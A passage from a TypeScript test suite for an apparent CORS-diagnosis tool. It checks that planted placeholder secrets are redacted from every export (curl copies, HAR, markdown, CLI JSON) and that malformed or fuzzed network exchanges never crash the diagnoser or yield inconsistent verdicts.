          location: `https://u:${s.password}@api.example/x?sig=${s.redirectURL}`,
        },
      ],
    }),
  }
}

it('an exporter’s failure text (a HAR’s _error) is redacted like the rest: CLI JSON and HAR export', () => {
  const x: Exchange = {
    ...plantedExchange(),
    outcome: { kind: 'error', error: `net::ERR_FAILED ${SECRETS.accessToken}` },
  }
  const d = diagnose(x)
  const out = [toJsonEntry(x, d), exchangesToHar([{ exchange: x, diagnosis: d, startedAt: 0 }])]
  expect(JSON.stringify(out)).not.toContain(SECRETS.accessToken)
})

/** Every way out of the panel, the HAR export and the CLI, for one exchange. */
function everyOutput(x: Exchange, d: Diagnosis): Record<string, string> {
  const options = { includeSecrets: false }
  const pre = preflightRequest(x, d)
  const entry = toJsonEntry(x, d)
  return {
    curlRequest: curlFor(x.request, options),
    curlPreflight: pre ? curlFor(pre, options) : '',
    check: checkCommand(x, d, options),
    markdown: markdownReport(x, d, options),
    har: JSON.stringify(exchangesToHar([{ exchange: x, diagnosis: d, startedAt: 0 }])),
    fixes: JSON.stringify(d.fixes),
    cliJson: JSON.stringify(entry),
    cliText: entryLines(entry, { allHeaders: true }).join('\n'),
  }
}

describe('secrets: none leaves, whatever the way out', () => {
  it('a distinct secret planted in every place appears in no output (panel copies, HAR, fix snippets, CLI text and JSON)', () => {
    const x = plantedExchange()
    const d = diagnose(x)
    expect(d.fixes.length).toBeGreaterThan(0)
    const leaks: string[] = []
    for (const [out, text] of Object.entries(everyOutput(x, d)))
      for (const [place, secret] of Object.entries(SECRETS))
        if (text.includes(secret)) leaks.push(`${place} in ${out}`)
    expect(leaks).toEqual([])
  })

  it('a HAR with secrets in content.text, postData, queryString, cookies and redirectURL exports none of them', () => {
    const s = SECRETS
    const har = {
      log: {
        version: '1.2',
        creator: { name: 'WebInspector', version: '537.36' },
        entries: [
          {
            startedDateTime: '2026-01-01T00:00:00.000Z',
            request: {
              method: 'POST',
              url: `${API}?access_token=${s.accessToken}`,
              headers: [
                { name: 'Origin', value: ORIGIN },
                { name: 'Authorization', value: `Bearer ${s.authorization}` },
              ],
              queryString: [{ name: 'access_token', value: s.accessToken }],
              cookies: [{ name: 'sid', value: s.cookie }],
              postData: { mimeType: 'application/json', text: `{"password":"${s.password}"}` },
            },
            response: {
              status: 302,
              headers: [{ name: 'Location', value: `https://api.example/cb?code=${s.code}` }],
              cookies: [{ name: 'sid', value: s.setCookie }],
              content: { size: 20, mimeType: 'text/html', text: s.body },
              redirectURL: `https://api.example/cb?code=${s.code}`,
            },
            _error: 'net::ERR_FAILED',
          },
        ],
      },
    }
    const read = harToExchanges(har)
    if ('error' in read) throw new Error(read.error)
    const text = JSON.stringify(
      exchangesToHar(read.exchanges.map((x) => ({ exchange: x, diagnosis: diagnose(x), startedAt: 0 }))),
    )
    for (const [place, secret] of Object.entries(SECRETS))
      expect(text.includes(secret), `${place} leaked into the HAR export`).toBe(false)
  })
})

describe('crash: one bad exchange never takes the others down', () => {
  it('a preflight redirected to an unparseable Location is PreflightDisallowedRedirect (diagnose threw on new URL)', () => {
    const d = diagnose(redirectedPreflight('http://['))
    expect(d.corsError).toBe('PreflightDisallowedRedirect')
  })

  it('a header value that is not a string ({"toString":"x"}) is read as empty, not thrown on', () => {
    expect(
      toHeaderList([
        { name: 'A', value: { toString: 'x' } },
        { name: 'B', value: 7 },
      ]),
    ).toEqual([
      { name: 'A', value: '' },
      { name: 'B', value: '7' },
    ])
  })

  it('diagnoseSafely turns an exchange the engine cannot read into an entry that says so', () => {
    const broken = { initiator: ORIGIN, request: null, outcome: { kind: 'ok' } } as unknown as Exchange
    const d = diagnoseSafely(broken)
    expect(d.verdict).toBe('unknown')
    expect(d.summary).toContain('could not analyse')
  })

  it('hostile exchanges (fast-check seeds): diagnose never throws', () => {
    fc.assert(
      fc.property(fc.integer(), (seed) => {
        diagnose(hostileExchange(rng(seed)))
      }),
      { numRuns: 2000 },
    )
  })
})

describe('wrong verdict: invariants on hostile input', () => {
  it('blocked ⇔ corsError; same-origin never blocked', () => {
    fc.assert(
      fc.property(fc.integer(), fc.boolean(), (seed, same) => {
        const d = diagnose(hostileExchange(rng(seed), { sameOrigin: same }))
        expect(d.blocked).toBe(d.corsError !== null)
        if (same) expect(d.blocked).toBe(false)
      }),
      { numRuns: 1000 },
    )
  })
})

describe('size: bounded by input size, never by a clock', () => {
  it('a 200 KB header value and 20,000 header lines are diagnosed (work linear in the input)', () => {
    const big = (n: number): Exchange =>
      exchange({
        response: {
          status: 200,
          headers: [
            { name: 'Access-Control-Allow-Origin', value: `${PAGE}${' '.repeat(n)}` },
            ...Array.from({ length: n / 10 }, (_, i) => ({ name: `X-${i}`, value: ' v ' })),
          ],
        },
      })
    expectLinear(big, 100_000)
  })
})
